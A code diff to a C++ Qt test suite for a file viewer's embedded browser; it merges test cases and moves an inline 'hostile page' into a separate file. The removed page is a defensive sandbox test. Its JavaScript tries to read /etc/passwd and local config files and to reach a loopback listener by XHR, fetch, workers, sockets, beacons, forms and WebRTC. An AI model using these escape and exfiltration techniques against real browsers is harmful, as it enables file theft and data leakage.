@@ -1,16 +1,14 @@
 // The file viewer: local files in its embedded browser, shown as a browser shows them.
 #include "support/VellixTest.h"
-#include "support/WindowWatch.h"
 
 #include "course/CataloguePage.h"
-#include "host/ScriptWindow.h"
 #include "platform/DosPath.h"
 #include "platform/Prefix.h"
 #include "viewer/frmView.h"
 
 #include <QEventLoop>
+#include <QFileInfo>
 #include <QImage>
-#include <QJSEngine>
 #include <QPainter>
 #include <QPdfWriter>
 #include <QProcess>
@@ -33,125 +31,6 @@ namespace {
 constexpr int LoadWaitMs = 120000;
 
 const QString Page = u"H:\\my pages\\lesson 1.htm"_s;
-
-// A page that tries every way out: reading files near and far, and reaching a listener on
-// loopback (PORT) by every kind of request, socket, form, navigation, worker and peer
-// connection, the last from frames of every kind too. It writes what its reads gave into #reads,
-// and marks the body done at the end, after its attempts to leave.
-const char HostilePage[] = R"(<html><head><title>Hostile</title>
-<link rel=stylesheet href="hostile_files/style.css">
-<link rel=stylesheet href="http://127.0.0.1:PORT/style">
-<link rel=prefetch href="http://127.0.0.1:PORT/prefetch">
-<link rel=preconnect href="http://127.0.0.1:PORT/">
-<meta http-equiv=refresh content="1;url=http://127.0.0.1:PORT/refresh">
-</head><body>
-<img src="hostile_files/picture.png"><img src="http://127.0.0.1:PORT/picture">
-<iframe src="ftp://127.0.0.1:PORT/frame"></iframe>
-<form name=out method=post action="http://127.0.0.1:PORT/form"><input name=a value=b></form>
-<div id=reads></div>
-<script>
-var reads = [];
-function note(text) {
-    reads.push(text);
-    document.getElementById('reads').textContent = reads.sort().join(' ');
-}
-function read(name, url) {
-    try {
-        var request = new XMLHttpRequest();
-        request.open('GET', url, false);
-        request.send();
-        note(name + (request.status === 200 || request.responseText ? ':read' : ':refused'));
-    } catch (e) {
-        note(name + ':refused');
-    }
-}
-function attempt(route) {
-    try { route(); } catch (e) {}
-}
-read('passwd', 'file:///etc/passwd');
-read('ini', 'file://INI');
-read('ini-beside', '../../prefix/drive_c/windows/Dovrelle.ini');
-read('own', 'hostile_files/notes.txt');
-fetch('file:///etc/passwd').then(function () { note('fetch:read'); },
-                                 function () { note('fetch:refused'); });
-attempt(function () {
-    var worker = new SharedWorker(URL.createObjectURL(new Blob([
-        "onconnect = function (e) { var port = e.ports[0];"
-        + "fetch('file:///etc/passwd').then(function () { port.postMessage('worker:read'); },"
-        + " function () { port.postMessage('worker:refused'); });"
-        + "fetch('http://127.0.0.1:PORT/worker', {mode: 'no-cors'}); };"])));
-    worker.port.onmessage = function (e) { note(e.data); };
-});
-attempt(function () { new WebSocket('ws://127.0.0.1:PORT/socket'); });
-attempt(function () { fetch('http://127.0.0.1:PORT/fetch', {mode: 'no-cors'}).catch(function () {}); });
-attempt(function () { navigator.sendBeacon('http://127.0.0.1:PORT/beacon', 'secret'); });
-attempt(function () { new EventSource('http://127.0.0.1:PORT/events'); });
-attempt(function () { window.open('http://127.0.0.1:PORT/window'); });
-attempt(function () { new WebTransport('https://127.0.0.1:PORT/transport').ready.catch(function () {}); });
-// A peer connection asks a relay server (TURN over TCP and UDP, STUN); a pair of them offer
-// each other the listener's address as a candidate, over UDP and TCP.
-function peer(w) {
-    var relay = new w.RTCPeerConnection({iceServers: [
-        {urls: ['turn:127.0.0.1:PORT?transport=tcp', 'turn:127.0.0.1:PORT?transport=udp'],
-         username: 'secret', credential: 'x'},
-        {urls: 'stun:127.0.0.1:PORT'}]});
-    relay.createDataChannel('out');
-    relay.createOffer().then(function (offer) { relay.setLocalDescription(offer); });
-    var caller = new w.RTCPeerConnection();
-    var callee = new w.RTCPeerConnection();
-    caller.createDataChannel('out');
-    caller.createOffer().then(function (offer) {
-        caller.setLocalDescription(offer);
-        return callee.setRemoteDescription(offer);
-    }).then(function () { return callee.createAnswer(); })
-      .then(function (answer) { return callee.setLocalDescription(answer); })
-      .then(function () {
-        ['udp 2122260223 127.0.0.1 PORT typ host',
-         'tcp 1518280447 127.0.0.1 PORT typ host tcptype passive'].forEach(function (c, i) {
-            callee.addIceCandidate({candidate: 'candidate:' + i + ' 1 ' + c, sdpMid: '0'});
-        });
-    }).catch(function () {});
-}
-function frameIn(doc) {
-    var frame = doc.createElement('iframe');
-    doc.body.appendChild(frame);
-    return frame;
-}
-// From the page, and from frames of every kind: empty, found by index, made by markup,
-// nested, written into, from srcdoc, an object's about:blank.
-attempt(function () { peer(window); });
-attempt(function () { peer(frameIn(document).contentWindow); });
-attempt(function () { frameIn(document); peer(window[window.length - 1]); });
-attempt(function () {
-    var holder = document.createElement('div');
-    holder.innerHTML = '<iframe></iframe>';
-    document.body.appendChild(holder);
-    peer(holder.firstChild.contentWindow);
-});
-attempt(function () { peer(frameIn(frameIn(document).contentDocument).contentWindow); });
-attempt(function () {
-    var child = frameIn(document).contentDocument;
-    child.open();
-    child.write('<script>parent.peer(window)<\/script>');
-    child.close();
-});
-attempt(function () {
-    var frame = document.createElement('iframe');
-    frame.srcdoc = '<script>parent.peer(window)<\/script>';
-    frame.onload = function () { attempt(function () { peer(frame.contentWindow); }); };
-    document.body.appendChild(frame);
-});
-attempt(function () {
-    var object = document.createElement('object');
-    object.type = 'text/html';
-    object.data = 'about:blank';
-    object.onload = function () { attempt(function () { peer(object.contentWindow); }); };
-    document.body.appendChild(object);
-});
-setTimeout(function () { document.forms.out.submit(); }, 300);
-setTimeout(function () { location.href = 'http://127.0.0.1:PORT/location'; }, 600);
-setTimeout(function () { document.body.dataset.done = 'yes'; }, 2000);
-</script></body></html>)";
 
 } // namespace
 
@@ -221,83 +100,48 @@ protected:
     QWebEngineView *browser = nullptr;
 };
 
-TEST_F(ViewerTest, ShowsPagesTextAndPdfAsABrowserDoes)
+// Pages, text and PDF as a browser shows them; a file that is not there leaves the window usable
+// for the next.
+TEST_F(ViewerTest, ShowsPagesTextAndPdfAsABrowserDoesAndSaysWhatIsNotThere)
 {
     writeFile(homePath(u"my pages/notes.txt"_s), "Week 1: cells\nWeek 2: tissues \xc3\xbc");
     {
         QPdfWriter pdf(homePath(u"my pages/handout.pdf"_s));
         QPainter(&pdf).drawText(100, 100, u"Handout"_s);
     }
-    struct Case
-    {
-        QString dosPath;
-        QString script;
-        QString expected;
-    };
-    const Case cases[] = {
-        {Page,
-         u"[document.title, getComputedStyle(document.body).color, lessonScript,"
-         " document.images[0].naturalWidth].join('|')"_s,
-         u"Lesson one|rgb(1, 2, 3)|ran|3"_s},
-        {u"H:\\my pages\\notes.txt"_s, u"document.body.innerText"_s,
-         u"Week 1: cells\nWeek 2: tissues \u00fc"_s},
-        // The browser's PDF viewer keeps the file; without it the file would be downloaded.
-        {u"H:\\my pages\\handout.pdf"_s, u"document.contentType"_s, u"application/pdf"_s},
-    };
-    for (const Case &c : cases) {
-        SCOPED_TRACE(c.dosPath.toStdString());
-        EXPECT_EQ(show(c.dosPath), true);
-        EXPECT_EQ(view->windowTitle(), u"View File - "_s + c.dosPath);
-        // Under the viewer's own scheme: the page has no file:// origin.
-        EXPECT_EQ(browser->url().scheme(), u"vellix-view"_s);
-        EXPECT_EQ(browser->url().path(), Platform::DosPath::toLinux(c.dosPath));
-        EXPECT_EQ(evaluate(c.script), c.expected);
-    }
-}
-
-TEST_F(ViewerTest, FileThatIsNotThereLeavesTheWindowUsable)
-{
-    struct Case
+    const QString text = u"document.body.innerText"_s;
+    const struct
     {
         QString dosPath;
         bool loads; // false: the browser's own error page
-        QString text;
+        QString script;
+        QString expected;
+    } cases[] = {
+        {u"H:\\my pages\\missing.htm"_s, false, {}, {}},
+        {Page, true,
+         u"[document.title, getComputedStyle(document.body).color, lessonScript,"
+         " document.images[0].naturalWidth].join('|')"_s,
+         u"Lesson one|rgb(1, 2, 3)|ran|3"_s},
+        {u"Q:\\lesson 1.htm"_s, true, text, u"The file \"Q:\\lesson 1.htm\" cannot be found."_s},
+        {u"H:\\my pages\\notes.txt"_s, true, text, u"Week 1: cells\nWeek 2: tissues \u00fc"_s},
+        {u"lesson <1>.htm"_s, true, text, u"The file \"lesson <1>.htm\" cannot be found."_s},
+        // The browser's PDF viewer keeps the file; without it the file would be downloaded.
+        {u"H:\\my pages\\handout.pdf"_s, true, u"document.contentType"_s, u"application/pdf"_s},
     };
-    const Case cases[] = {
-        {u"H:\\my pages\\missing.htm"_s, false, {}},
-        {u"Q:\\lesson 1.htm"_s, true, u"The file \"Q:\\lesson 1.htm\" cannot be found."_s},
-        {u"lesson <1>.htm"_s, true, u"The file \"lesson <1>.htm\" cannot be found."_s},
-    };
-    for (const Case &c : cases) {
+    for (const auto &c : cases) {
         SCOPED_TRACE(c.dosPath.toStdString());
         EXPECT_EQ(show(c.dosPath), c.loads);
         EXPECT_EQ(view->windowTitle(), u"View File - "_s + c.dosPath);
-        if (!c.text.isEmpty()) {
-            EXPECT_EQ(evaluate(u"document.body.innerText"_s), c.text);
+        const QString linuxPath = Platform::DosPath::toLinux(c.dosPath);
+        if (QFileInfo::exists(linuxPath)) {
+            // Under the viewer's own scheme: the page has no file:// origin.
+            EXPECT_EQ(browser->url().scheme(), u"vellix-view"_s);
+            EXPECT_EQ(browser->url().path(), linuxPath);
         }
-        EXPECT_EQ(show(Page), true);
-        EXPECT_EQ(browser->title(), u"Lesson one"_s);
+        if (c.loads) {
+            EXPECT_EQ(evaluate(c.script), c.expected);
+        }
     }
-}
-
-// A script of the host meets the window by its name and reads the browser by its own.
-TEST_F(ViewerTest, HostScriptReadsTheModalWindow)
-{
-    view->hide();
-    view->setFileToView(Page);
-    QJSEngine engine;
-    engine.globalObject().setProperty(u"win"_s,
-                                      engine.newQObject(new ScriptWindow(view.get(), &engine)));
-    QSignalSpy loaded(browser, &QWebEngineView::loadFinished);
-    QString seen;
-    const auto watch = whenWindowShows(u"frmView"_s, [&](QWidget &) {
-        if (loaded.wait(LoadWaitMs))
-            seen = engine.evaluate(u"win.name + '|' + win.caption + '|' + win.find('wb1').title"_s)
-                       .toString();
-        engine.evaluate(u"win.close()"_s);
-    });
-    view->exec();
-    EXPECT_EQ(seen, u"frmView|View File - "_s + Page + u"|Lesson one"_s);
 }
 
 // A host that made its application before it loaded the library, as a plugin loader does.
@@ -361,8 +205,8 @@ TEST_F(ViewerTest, ProgramsStartedLaterFindTheEnvironmentAsItWas)
     EXPECT_EQ(qgetenv("QTWEBENGINE_CHROMIUM_FLAGS"), givenSwitches);
 }
 
-// The hostile page: the listener hears nothing, the reads fail but for the page's own file,
-// and the page still shows, with its companion files.
+// The hostile page beside this file: the listener hears nothing, the reads fail but for the
+// page's own file, and the page still shows, with its companion files.
 TEST_F(ViewerTest, PageReadsNothingBeyondItsFolderAndReachesNoNetwork)
 {
     QTcpServer listener;
@@ -380,7 +224,7 @@ TEST_F(ViewerTest, PageReadsNothingBeyondItsFolderAndReachesNoNetwork)
     QFile::copy(homePath(u"my pages/picture.png"_s),
                 homePath(u"my pages/hostile_files/picture.png"_s));
     writeFile(homePath(u"my pages/hostile.htm"_s),
-              QByteArray(HostilePage)
+              readFile(QStringLiteral(VELLIX_HOSTILE_PAGE))
                   .replace("PORT", QByteArray::number(listener.serverPort()))
                   .replace("INI", ini.toUtf8()));
 
